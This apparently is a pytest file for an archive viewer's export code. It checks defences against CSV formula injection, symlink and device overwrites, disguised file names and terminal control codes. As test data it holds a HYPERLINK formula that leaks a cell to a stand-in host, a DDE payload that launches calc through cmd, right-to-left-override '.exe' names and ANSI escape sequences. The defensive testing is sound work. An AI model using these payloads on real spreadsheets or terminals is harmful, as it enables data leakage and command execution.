"""Exports are safe to open: no formula runs from a CSV cell, no special file is replaced, no
bidirectional control reaches a file name, no control character reaches the terminal."""

from __future__ import annotations

import csv
import io
import json
import os

import pytest
from click.testing import CliRunner
from conftest import SEED, assert_a_copy_of_its_own

from viewer.archive import Archive
from viewer.cli import cli
from viewer.errors import ExportError
from viewer.export import safe_stem
from viewer.terminal import for_terminal

EDITOR = "王编辑"
FORMULA_TITLE = '=HYPERLINK("http://example.invalid/?leak="&A1,"点击")'


def build_hostile(folder):
    """The seed page, its title and first paragraphs corrected to what a spreadsheet would run."""
    with Archive(folder / "archive") as archive:
        archive.importing.import_paths([SEED])
        archive.editing.correct(1, title=FORMULA_TITLE, author=EDITOR)
        archive.editing.correct(1, paragraph=1, text="+86 358 1234567", author=EDITOR)
        archive.editing.correct(1, paragraph=2, text="@SUM(1+1)*cmd|' /C calc'!A0", author=EDITOR)
        archive.editing.correct(1, paragraph=3, text="\t=1+1", author=EDITOR)


@pytest.fixture
def hostile(templates, tmp_path):
    """:func:`build_hostile`'s archive, a copy of the test's own."""
    with Archive(templates.copy("hostile", build_hostile, tmp_path)) as archive:
        yield archive


def test_hostile_is_a_copy_of_its_own(hostile, templates, tmp_path_factory):
    assert_a_copy_of_its_own(hostile, templates.copy("hostile", build_hostile, tmp_path_factory.mktemp("again")))


def csv_rows(path) -> list[dict]:
    return list(csv.DictReader(io.StringIO(path.read_bytes().decode("utf-8-sig"), newline="")))


def test_csv_cells_that_would_run_get_a_leading_quote(hostile, tmp_path):
    hostile.exporting.export([1], "csv", tmp_path / "x.csv")
    row = csv_rows(tmp_path / "x.csv")[0]
    assert row["title"] == "'" + FORMULA_TITLE
    assert row["text"].startswith("'+86 358 1234567\n@SUM")  # the cell starts with "+": guarded once
    assert row["date"] == "2025-04-03" and row["page"] == "8"  # ordinary cells untouched
    shown = hostile.browsing.article(1)
    assert row["text"].removeprefix("'") == "\n".join(shown.text.paragraphs)  # nothing else changed


def test_csv_raw_writes_cells_as_stored(hostile, tmp_path):
    hostile.exporting.export([1], "csv", tmp_path / "x.csv", csv_raw=True)
    row = csv_rows(tmp_path / "x.csv")[0]
    assert row["title"] == FORMULA_TITLE
    assert row["text"] == "\n".join(hostile.browsing.article(1).text.paragraphs)


def test_csv_raw_on_the_command_line(hostile, tmp_path):
    runner = CliRunner()
    for extra, title in (([], "'" + FORMULA_TITLE), (["--csv-raw"], FORMULA_TITLE)):
        out = tmp_path / f"x{len(extra)}.csv"
        result = runner.invoke(cli, ["--archive", str(hostile.root), "export", "1", "--format", "csv",
                                     "--out", str(out), *extra])
        assert result.exit_code == 0, result.output
        assert csv_rows(out)[0]["title"] == title


def test_a_tab_or_carriage_return_before_a_formula_is_guarded(hostile, tmp_path):
    hostile.editing.correct(1, title="\r=1+1", author=EDITOR)
    hostile.exporting.export([1], "csv", tmp_path / "x.csv")
    assert csv_rows(tmp_path / "x.csv")[0]["title"] == "'\r=1+1"


@pytest.mark.parametrize("kind", ["symlink", "fifo", "device"])
def test_out_refuses_what_is_not_a_regular_file(hostile, tmp_path, kind):
    target = tmp_path / "kept.txt"
    target.write_text("kept", encoding="utf-8")
    out = tmp_path / "out.txt"
    if kind == "symlink":
        out.symlink_to(target)
    elif kind == "fifo":
        os.mkfifo(out)
    else:
        out = tmp_path / "null"
        out.symlink_to("/dev/null")
        out = out.resolve()  # /dev/null itself: a character device
    before = os.lstat(out)
    with pytest.raises(ExportError, match="symbolic link|not a regular file"):
        hostile.exporting.export([1], "txt", out)
    after = os.lstat(out)
    assert (after.st_mode, after.st_ino) == (before.st_mode, before.st_ino)
    assert target.read_text(encoding="utf-8") == "kept"


def test_one_file_per_article_refuses_a_link_to_a_folder(hostile, tmp_path):
    real = tmp_path / "real"
    real.mkdir()
    (tmp_path / "link").symlink_to(real)
    with pytest.raises(ExportError, match="symbolic link"):
        hostile.exporting.export([1], "txt", tmp_path / "link", one_file_per_article=True)
    assert list(real.iterdir()) == []


def test_a_regular_file_is_still_replaced(hostile, tmp_path):
    out = tmp_path / "old.txt"
    out.write_text("old", encoding="utf-8")
    hostile.exporting.export([1], "txt", out)
    assert FORMULA_TITLE in out.read_text(encoding="utf-8")


def test_file_names_drop_bidirectional_controls(hostile, tmp_path):
    assert safe_stem("报道\u202etxt.exe") == "报道txt.exe"
    assert safe_stem("\u2067甲\u2069\u200f乙\u061c") == "甲乙"
    hostile.editing.correct(1, title="交城\u202egpj.exe", author=EDITOR)
    files = hostile.exporting.export([1], "txt", tmp_path / "each", one_file_per_article=True)
    assert [f.name for f in files] == ["2025-04-03_08_交城gpj.exe.txt"]


def test_terminal_escapes_controls_and_keeps_the_rest():
    assert for_terminal("甲\x1b[2J乙\x9b31m\u202e丙\r丁\x08") == "甲\\x1b[2J乙\\x9b31m\\u202e丙\\x0d丁\\x08"
    assert for_terminal("第一行\n\t第二行") == "第一行\n\t第二行"
    assert for_terminal(os.fsdecode(b"page-\xff\xfe.txt")) == "page-\\xff\\xfe.txt"


def test_show_list_and_search_print_no_control_characters(hostile):
    hostile.editing.correct(1, title="交城\x1b]0;owned\x07\x1b[31m红\u202e", author=EDITOR)
    runner = CliRunner()
    for command in (["show", "1"], ["search", "交城"], ["show", "1", "--json"]):
        result = runner.invoke(cli, ["--archive", str(hostile.root), *command])
        assert result.exit_code == 0, result.output
        assert not any(ch in result.output for ch in "\x1b\x07\u202e"), command
        assert "\\x1b[31m红" in result.output or "\\u001b[31m红" in result.output
    shown = runner.invoke(cli, ["--archive", str(hostile.root), "show", "1", "--json"]).output
    assert json.loads(shown)["title"] == "交城\x1b]0;owned\x07\x1b[31m红\u202e"  # the same value
